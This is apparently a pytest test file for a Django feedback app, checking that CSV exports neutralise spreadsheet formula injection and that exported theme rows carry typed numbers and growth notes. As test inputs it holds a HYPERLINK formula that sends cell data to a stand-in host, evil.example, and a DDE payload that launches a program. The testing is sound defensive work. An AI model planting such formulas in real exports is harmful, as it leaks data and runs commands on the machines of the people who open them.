"""Every CSV export is safe to open in a spreadsheet: no cell runs as a formula."""

import csv
import io

import pytest

from feedbackhub import csv_safe
from tests.factories import ThemeFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_neutralised(start):
    assert csv_safe.safe_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["-12.50", "+3", "-4", 42, -1.5, "Single sign-on", ""])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csv_safe.safe_cell(value) == value


def test_the_themes_export_does_not_carry_a_formula(pm_client):
    ThemeFactory(title=EVIL, note_count=3)
    response = pm_client.get("/themes/?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    titles = [row[1] for row in rows[1:]]
    assert titles == ["'" + EVIL]


def test_no_module_writes_csv_without_the_helper():
    from pathlib import Path

    from django.conf import settings

    offenders = []
    for area in ("accounts", "deals", "insights", "feedbackhub"):
        for path in (Path(settings.BASE_DIR) / area).rglob("*.py"):
            text = path.read_text()
            if "engine" in path.parts:
                continue  # the engine's command-line tool writes the developer's own file
            if path.name != "csv_safe.py" and ("csv.writer(" in text or "csv.DictWriter(" in text):
                offenders.append(str(path))
    assert offenders == []


def _export(client) -> list[dict]:
    response = client.get("/themes/?format=csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_themes_export_has_typed_numbers_labelled_columns_and_human_labels(pm_client, pm):
    from decimal import Decimal

    ThemeFactory(
        title="Audit log",
        status="under_review",
        owner=pm,
        note_count=12,
        account_count=7,
        open_revenue=Decimal("3517232.10"),
        weighted_revenue=Decimal("3517232.1000"),
        lost_revenue=Decimal("14929"),
        # 6 mentions in the four weeks before, 20 in the last four: +233.3%.
        weekly_mentions=[0] * 18 + [1, 2, 2, 1, 5, 5, 5, 5],
    )
    (row,) = _export(pm_client)
    assert row == {
        "theme_id": row["theme_id"],
        "title": "Audit log",
        "status": "Under review",
        "owner": pm.display_name,
        "notes": "12",
        "accounts": "7",
        "open_pipeline_usd": "3517232.10",
        "weighted_pipeline_usd": "3517232.10",
        "lost_revenue_usd": "14929.00",
        "mentions_last_4_weeks": "20",
        "mentions_4_weeks_before": "6",
        "growth_pct": "233.3",
        "growth_note": "",
    }
    for column in ("notes", "open_pipeline_usd", "growth_pct"):
        float(row[column])  # a spreadsheet reads each as a number


@pytest.mark.parametrize(
    ("weekly", "pct", "note"),
    [
        ([0] * 22 + [1, 0, 3, 0], "", "new"),
        ([0] * 18 + [1, 0, 1, 0, 4, 4, 1, 1], "", "fewer than 5 mentions before"),
        ([0] * 26, "", "no mentions"),
    ],
)
def test_the_export_says_why_growth_has_no_figure(pm_client, weekly, pct, note):
    ThemeFactory(note_count=3, weekly_mentions=weekly)
    (row,) = _export(pm_client)
    assert (row["growth_pct"], row["growth_note"]) == (pct, note)
